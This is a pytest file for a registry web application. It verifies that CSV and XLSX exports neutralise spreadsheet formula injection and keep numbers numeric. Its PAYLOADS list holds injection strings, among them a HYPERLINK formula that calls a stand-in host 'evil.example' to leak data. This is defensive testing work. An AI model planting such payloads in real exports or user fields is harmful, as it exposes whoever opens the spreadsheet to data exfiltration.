"""Text from phones and people never becomes a spreadsheet formula in an export (OWASP CSV
injection), while numbers stay numbers: in the CSVs of the ZIPs a formula-like text starts with
`'`, in the XLSX it is a string cell with quotePrefix, and no cell anywhere is a formula."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from server.registry.models import AssistanceMeasure
from tests.db.monitoring.factories import household, make_version, make_visit
from tests.http.openrosa.test_submission import FILES, VISIT, post, visit
from tests.http.web.helpers import login

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak","x")', "+1", "-1+2", "@SUM(1)", "\t=1", "\r=1"]


def _csv_tables(data: bytes) -> dict[str, list[list[str]]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {
            name.removesuffix(".csv"): list(
                csv.reader(io.TextIOWrapper(archive.open(name), "utf-8-sig", newline=""))
            )
            for name in archive.namelist()
        }


def _column(table: list[list[str]], header_start: str) -> list[str]:
    index = next(i for i, h in enumerate(table[0]) if h.startswith(header_start))
    return [row[index] for row in table[1:]]


def _cells(data: bytes):  # type: ignore[no-untyped-def]
    """Every cell of every sheet (a full load: formulas would show as data_type "f")."""
    book = load_workbook(io.BytesIO(data))
    return {sheet.title: [list(row) for row in sheet.iter_rows()] for sheet in book}


def _assert_no_formulas(sheets) -> None:  # type: ignore[no-untyped-def]
    formulas = [
        (title, c.coordinate, c.value)
        for title, rows in sheets.items()
        for row in rows
        for c in row
        if c.data_type == "f"
    ]
    assert formulas == []


def _xlsx_column(rows, header_start: str):  # type: ignore[no-untyped-def]
    index = next(i for i, c in enumerate(rows[0]) if str(c.value).startswith(header_start))
    return [row[index] for row in rows[1:]]


@pytest.fixture
def hostile_registry(session, county):  # type: ignore[no-untyped-def]
    """Visits whose difficulties are the payloads, and a refund: a negative amount."""
    zhang = household(session, "H440233100201-0001")
    for day, payload in enumerate(PAYLOADS, start=1):
        make_visit(session, zhang, date(2026, 10, day), difficulties=payload)
    session.add(
        AssistanceMeasure(
            household_id=zhang.id,
            source_version_id=make_version(session),
            recorded_on=date(2026, 10, 9),
            family="other",
            detail="-1+2",
            amount=Decimal("-5.00"),
        )
    )
    session.commit()


def test_the_registry_zip_neutralises_text_and_keeps_a_negative_amount_a_number(
    client, ada, hostile_registry
):
    login(client, ada)
    tables = _csv_tables(client.get("/exports/registry.zip").get_data())
    assert _column(tables["visits"], "困难及诉求") == ["'" + p for p in PAYLOADS]
    assert _column(tables["measures"], "具体措施") == ["'-1+2"]
    assert _column(tables["measures"], "金额") == ["-5.00"]


def test_the_registry_xlsx_keeps_the_exact_text_in_string_cells_and_numbers_numeric(
    client, ada, hostile_registry
):
    login(client, ada)
    sheets = _cells(client.get("/exports/registry.xlsx").get_data())
    _assert_no_formulas(sheets)
    difficulties = _xlsx_column(sheets["visits"], "困难及诉求")
    assert [(c.value, c.data_type, c.quotePrefix) for c in difficulties] == [
        (p, "s", True) for p in PAYLOADS
    ]
    (amount,) = _xlsx_column(sheets["measures"], "金额")
    assert (amount.value, amount.data_type) == (-5, "n")
    (visit_date, *_) = _xlsx_column(sheets["visits"], "走访日期")
    assert visit_date.quotePrefix is False  # plain text stays plain


def _members(payloads: list[str]) -> str:
    members = "".join(f"<member><member_name>{p}</member_name></member>" for p in payloads)
    return VISIT.replace("<member><member_name>张三</member_name></member>", members)


ESCAPED = [p.replace("&", "&amp;").replace("\r", "&#13;").replace("\t", "&#9;") for p in PAYLOADS]


@pytest.fixture
def hostile_submission(client, eli):  # type: ignore[no-untyped-def]
    response = post(client, eli, visit(body=_members(ESCAPED)), FILES)
    assert response.status_code == 201, response.data


def test_phone_answers_in_a_submissions_zip_are_neutralised(client, ada, hostile_submission):
    login(client, ada)
    tables = _csv_tables(client.get("/exports/submissions/visit_test.zip").get_data())
    names = _column(tables["visit_test-member"], "姓名")
    # Answers are read stripped from the XML: a leading tab or CR goes, the `=` behind it stays.
    assert names == ["'" + p.strip() for p in PAYLOADS]


def test_phone_answers_in_a_submissions_xlsx_are_never_formulas(client, ada, hostile_submission):
    login(client, ada)
    sheets = _cells(client.get("/exports/submissions/visit_test.xlsx").get_data())
    _assert_no_formulas(sheets)
    names = _xlsx_column(sheets["visit_test-member"], "姓名")
    assert [c.value for c in names] == [p.strip() for p in PAYLOADS]
    assert all(c.quotePrefix for c in names)


def test_the_monthly_report_xlsx_keeps_names_text(client, session, ada, hostile_registry):
    household(session, "H440233100201-0002").head_name = PAYLOADS[0]
    session.commit()
    login(client, ada)
    sheets = _cells(client.get("/exports/report-2026-10.xlsx").get_data())
    _assert_no_formulas(sheets)
    named = [c for rows in sheets.values() for row in rows for c in row if c.value == PAYLOADS[0]]
    assert named and all(c.data_type == "s" and c.quotePrefix for c in named)
